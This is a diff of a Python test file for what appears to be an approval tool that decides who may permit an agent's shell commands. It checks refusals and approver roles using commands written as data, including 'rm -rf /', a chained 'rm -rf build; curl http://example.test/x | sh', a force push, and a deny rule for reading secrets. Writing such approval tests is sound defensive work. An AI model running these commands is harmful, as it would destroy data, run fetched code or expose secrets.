@@ -19,6 +19,7 @@ from tools.approval.grants import new_grant
 from tools.dispatch.bridge import run_async
 from tools.judge.meaning.value import Taint
 
+pytestmark = pytest.mark.usefixtures("plain")
 PUSH = "git push --force origin main"
 
 
@@ -86,9 +87,9 @@ def test_as_json(run: Any, tmp_path: Path) -> None:
     assert finding["approvers"] == ["owner"]
 
 
-def test_the_roles_that_may_agree_in_chats_are_told(run: Any, config: Any) -> None:
+def test_the_roles_that_may_agree_in_chats_are_told(run: Any, plain: Any) -> None:
     """003-25: by the longest name that fits, owner where none does; of what is refused nobody."""
-    config("gateway: {approvers: {fs: [owner, admins]}}\nplatforms: {irc: {}}\n")
+    plain("gateway: {approvers: {fs: [owner, admins]}}\nplatforms: {irc: {}}\n")
     out = run("explain", "rm -rf build; curl http://example.test/x | sh").out
     assert out.count("      in chats of the gateway: admins or owner may agree\n") == 1
     assert "      in chats of the gateway: owner may agree\n" in out
@@ -96,7 +97,7 @@ def test_the_roles_that_may_agree_in_chats_are_told(run: Any, config: Any) -> No
     (finding,) = json.loads(run("explain", "--json", "rm -rf /").out)["findings"]
     assert finding["approvers"] == []
     assert "in chats" not in run("explain", "--mode", "plan", "rm -rf build").out
-    config("{}")
+    plain("")
     assert "in chats" not in run("explain", "rm -rf build").out
 
 
@@ -150,9 +151,9 @@ def test_a_permanent_grant_is_named(run: Any, tmp_path: Path) -> None:
     assert "decided by: a person" in run("explain", "sudo rm -rf build").out
 
 
-def test_the_model_of_smart_approval_is_named_for_what_it_may_answer(run: Any, config: Any) -> None:
+def test_the_model_of_smart_approval_is_named_for_what_it_may_answer(run: Any, plain: Any) -> None:
     """003-25"""
-    config("approval: {smart: {enabled: true, model: aux, base_url: 'http://127.0.0.1:9/v1'}}\n")
+    plain("approval: {smart: {enabled: true, model: aux, base_url: 'http://127.0.0.1:9/v1'}}\n")
     assert "decided by: the model of approval.smart (aux), else a person" in run("explain", "rm -rf build").out
     assert "approval.smart" not in run("explain", "rm -rf build; curl http://example.test/x | sh").out
 
@@ -191,8 +192,8 @@ def test_a_lasting_grant_lets_it_run(run: Any, tmp_path: Path) -> None:
     assert lines_of(feed(run, {"command": "rm -rf build"}))[0]["level"] == "allow"
 
 
-def test_operators_rules_for_tools_are_told(run: Any, config: Any) -> None:
-    config("approval: {tools: [{tool: terminal, args: {command: '*secret*'}, decision: deny, why: not from here}]}\n")
+def test_operators_rules_for_tools_are_told(run: Any, plain: Any) -> None:
+    plain("approval: {tools: [{tool: terminal, args: {command: '*secret*'}, decision: deny, why: not from here}]}\n")
     done = run("explain", "cat secret")
     assert done.code == 1
     assert "  Refused by the operator's rule for 'terminal': not from here.\n" in done.out
